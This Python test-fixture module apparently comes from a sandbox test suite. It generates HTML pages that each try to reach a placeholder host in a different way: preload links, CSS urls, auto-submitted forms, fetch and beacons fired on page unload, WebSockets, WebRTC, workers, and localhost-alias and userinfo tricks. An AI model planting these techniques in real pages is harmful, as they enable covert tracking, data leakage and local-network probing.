"""Pages that try to reach another host, one way each."""

from __future__ import annotations

from collections.abc import Mapping

from hostile_pages.case import Case, Right, cases, page, scripted

__all__ = ["ELSEWHERE"]

_HTTP, _WS = "http://%ELSEWHERE%", "ws://%ELSEWHERE%"

_HEADS = {
    "stylesheet": f'<link rel="stylesheet" href="{_HTTP}/s.css">',
    "preconnect": f'<link rel="preconnect" href="{_HTTP}" crossorigin>',
    "dns-prefetch": f'<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="{_HTTP}">',
    "prefetch": f'<link rel="prefetch" href="{_HTTP}/p"><link rel="next" href="{_HTTP}/n">',
    "preload": f'<link rel="preload" as="font" href="{_HTTP}/f.woff2" crossorigin><link rel="modulepreload" href="{_HTTP}/m.js">',
    "icon": f'<link rel="icon" href="{_HTTP}/i.png"><link rel="apple-touch-icon" href="{_HTTP}/a.png">',
    "manifest": f'<link rel="manifest" href="{_HTTP}/m.json" crossorigin="use-credentials">',
    "import": f"<style>@import url('{_HTTP}/i.css');</style>",
    "style-url": f"<style>body {{ background: url({_HTTP}/b.png) }} h1 {{ cursor: url({_HTTP}/c.cur), auto }}</style>",
    "font": f"<style>@font-face {{ font-family: f; src: url({_HTTP}/f.woff2) }} p {{ font-family: f }}</style>",
    "script": f'<script src="{_HTTP}/s.js"></script><script type="module" src="{_HTTP}/m.js"></script>',
    "import-map": f'<script type="importmap">{{"imports": {{"a": "{_HTTP}/a.js"}}}}</script><script type="module">import "a"</script>',
    "policy-report": f'<meta http-equiv="Content-Security-Policy" content="img-src \'none\'; report-uri {_HTTP}/r">',
    "speculation": f'<script type="speculationrules">{{"prefetch": [{{"source": "list", "eagerness": "immediate", "urls": ["{_HTTP}/s"]}}]}}</script>',
}
_BODIES = {
    "image": f'<img alt="" src="{_HTTP}/i.png" srcset="{_HTTP}/i2.png 2x">',
    "picture": f'<picture><source srcset="{_HTTP}/p.webp"><img alt="" src="dot.png"></picture>',
    "frame": f'<iframe title="Frame" src="{_HTTP}/f.html"></iframe>',
    "object": f'<object data="{_HTTP}/o.svg">o</object><embed src="{_HTTP}/e.svg">',
    "media": f'<video autoplay muted src="{_HTTP}/v.mp4" poster="{_HTTP}/p.png"></video><audio preload="auto" src="{_HTTP}/a.mp3"></audio>',
    "input": f'<input type="image" alt="x" src="{_HTTP}/i.png">',
    "svg": f'<svg><use href="{_HTTP}/s.svg#a"/><image href="{_HTTP}/i.png" width="9" height="9"/></svg>',
    "ping": f'<a id="l" href="#x" ping="{_HTTP}/p">Link</a><script>l.click()</script>',
    "form": f'<form id="f" action="{_HTTP}/f" method="post" target="w"><button>Go</button></form><iframe title="w" name="w"></iframe><script>f.submit()</script>',
    "popup": f'<a id="l" target="_blank" rel="opener" href="{_HTTP}/p">Link</a><script>l.click(); window.open("{_HTTP}/w")</script>',
}
_SCRIPTS = {
    "fetch": f"fetch('{_HTTP}/f', {{ mode: 'no-cors' }}).catch(() => {{}})",
    "keepalive": f"onpagehide = onbeforeunload = () => fetch('{_HTTP}/k', {{ method: 'POST', keepalive: true, mode: 'no-cors' }})",
    "request": f"const r = new XMLHttpRequest(); r.open('GET', '{_HTTP}/x'); r.send()",
    "beacon": f"navigator.sendBeacon('{_HTTP}/b', 'x'); onpagehide = () => navigator.sendBeacon('{_HTTP}/late', 'x')",
    "socket": f"new WebSocket('{_WS}/s'); setInterval(() => new WebSocket('{_WS}/again'), 50)",
    "events": f"new EventSource('{_HTTP}/e')",
    "peer": "const p = new RTCPeerConnection({ iceServers: [{ urls: ['stun:%ELSEWHERE%', 'turn:%ELSEWHERE%?transport=tcp'],"
    " username: 'u', credential: 'c' }] }); p.createDataChannel('c'); p.createOffer().then((o) => p.setLocalDescription(o))",
    "transport": "try { new WebTransport('https://%ELSEWHERE%/t').ready.catch(() => {}) } catch {}",
    "late-image": f"onunload = onpagehide = () => new Image().src = '{_HTTP}/late.png'",
    "names": "for (const h of ['localhost', '[::1]', '127.0.0.2', '0.0.0.0', '2130706433', 'localhost.'])"
    " new Image().src = 'http://' + h + ':' + '%ELSEWHERE%'.split(':')[1] + '/n.png'",
    "user-info": "new Image().src = 'http://' + location.host + '@%ELSEWHERE%/u.png'",
}
_WORKER = f"fetch('{_HTTP}/w', {{ mode: 'no-cors' }}).catch(() => {{}}); try {{ importScripts('{_HTTP}/i.js') }} catch {{}}"


def _all() -> Mapping[str, str]:
    return {
        **{name: page(head=text) for name, text in _HEADS.items()},
        **{name: page(text) for name, text in _BODIES.items()},
        **{name: scripted(text) for name, text in _SCRIPTS.items()},
    }


ELSEWHERE: tuple[Case, ...] = (
    *cases("elsewhere", _all(), Right.EITHER),
    *cases(
        "elsewhere-worker",
        {
            "worker": scripted("new Worker('%STEM%.w.js')"),
            "shared": scripted("new SharedWorker('%STEM%.w.js')"),
            "service": scripted("navigator.serviceWorker.register('%STEM%.w.js')"),
        },
        Right.EITHER,
        files={"w.js": _WORKER},
    ),
)
